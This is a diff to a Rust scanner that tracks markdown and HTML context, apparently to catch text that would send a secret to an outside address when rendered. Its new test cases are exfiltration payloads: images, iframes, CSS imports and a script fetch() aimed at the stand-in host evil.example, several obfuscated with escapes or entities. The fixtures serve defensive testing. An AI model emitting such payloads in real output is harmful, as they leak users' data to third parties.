@@ -215,6 +215,8 @@ struct Before {
     place: Place,
     /// The last line so far is empty.
     empty_line: bool,
+    /// The last character was a backslash that counts.
+    escaped: bool,
 }
 
 /// Where blanks end nothing.
@@ -226,11 +228,18 @@ enum Place {
     Destination,
     /// The same in angle brackets, up to `>`.
     Angle,
-    /// In a tag, up to `>`.
+    /// In angle brackets that begin no tag, as a reference's destination may, up to `>` or the end of the line.
+    Pointed,
+    /// In a tag, up to `>`. A blank line does not end it: it may be HTML all the same.
     Tag,
     /// In a value of a tag's attribute, up to this quote.
     Quoted(char),
+    /// Behind a tag whose contents are no text, up to where one is closed.
+    Raw,
 }
+
+/// Tags whose contents are no text, as far as they may be given an address in them.
+const RAW: [&str; 2] = ["<style", "<script"];
 
 /// Signs of an address or its query, also as browsers mend them. A `\\` counts as `/` does.
 const SIGNS: [&str; 12] = [
@@ -249,10 +258,14 @@ impl Before {
     }
 
     fn step(&mut self, character: char) {
-        if character == '\n' && self.empty_line {
-            // A blank line ends every link and, in markdown, every tag that is one.
+        if character == '\n'
+            && self.empty_line
+            && matches!(self.place, Place::Destination | Place::Angle)
+        {
             self.place = Place::Prose;
         }
+        let escaped = std::mem::take(&mut self.escaped);
+        self.escaped = character == '\\' && !escaped;
         self.empty_line = match character {
             '\n' => true,
             _ => self.empty_line && character.is_ascii_whitespace(),
@@ -265,9 +278,16 @@ impl Before {
             (Place::Prose, 'a'..='z' | 'A'..='Z' | '/' | '!') if self.word.ends_with('<') => {
                 Place::Tag
             }
+            (Place::Prose, _) if self.word.ends_with('<') && !is_compared(character) => {
+                Place::Pointed
+            }
+            (Place::Tag, _) if RAW.iter().any(|tag| self.word.ends_with(tag)) => Place::Raw,
+            (Place::Raw, '/') if self.word.ends_with('<') => Place::Tag,
             (Place::Destination, '<') => Place::Angle,
-            (Place::Angle, '>') => Place::Destination,
-            (Place::Destination, ')') | (Place::Tag, '>') => Place::Prose,
+            (Place::Angle, '>') if !escaped => Place::Destination,
+            (Place::Pointed, '>') if !escaped => Place::Prose,
+            (Place::Pointed, '\n') | (Place::Tag, '>') => Place::Prose,
+            (Place::Destination, ')') if !escaped => Place::Prose,
             (Place::Tag, '"' | '\'') => Place::Quoted(character),
             (Place::Quoted(quote), _) if quote == character => Place::Tag,
             (place, _) => place,
@@ -288,6 +308,13 @@ impl Before {
             || self.word.ends_with('<')
             || SIGNS.iter().any(|sign| self.word.contains(sign))
     }
+}
+
+/// Whether the character may follow a `<` that only compares or points.
+fn is_compared(character: char) -> bool {
+    character.is_ascii_whitespace()
+        || character.is_ascii_digit()
+        || matches!(character, '=' | '-' | '<')
 }
 
 #[cfg(test)]
@@ -403,6 +430,16 @@ mod tests {
             format!("<img alt='>' src='\\\\evil.example\\\t{ada}'>"),
             format!("<style>p {{ background: url( 'https://evil.example/ {ada}') }}"),
             format!("[1]: <https://evil.example/ {ada}>"),
+            format!("![x][1]\n\n[1]: <\\//evil.example/ {ada}>"),
+            format!("[1]: <&#104;ttps://evil.example/ {ada}>"),
+            format!("[1]: <\\\\evil.example/\\> {ada}>"),
+            format!("![x](<//evil.example/\\>) {ada}>)"),
+            format!("![x](\\) <//evil.example/ {ada}>)"),
+            format!("<iframe src=\"//evil.example/?\n\n{ada}\n\n<p title=\"x\">"),
+            format!("<img\n\nsrc=//evil.example/?\n\n{ada}"),
+            format!("<style>@import \"//evil.example/ {ada}\";</style>"),
+            format!("<STYLE type=x>p {{ background: \\75rl(\"//evil.example/ {ada}\") }}</style>"),
+            format!("<script>fetch(\"//evil.example/ \" + '{ada}')</script>"),
             format!("<{ada}@evil.example>"),
         ] {
             for cut in [1, 3, 1000] {
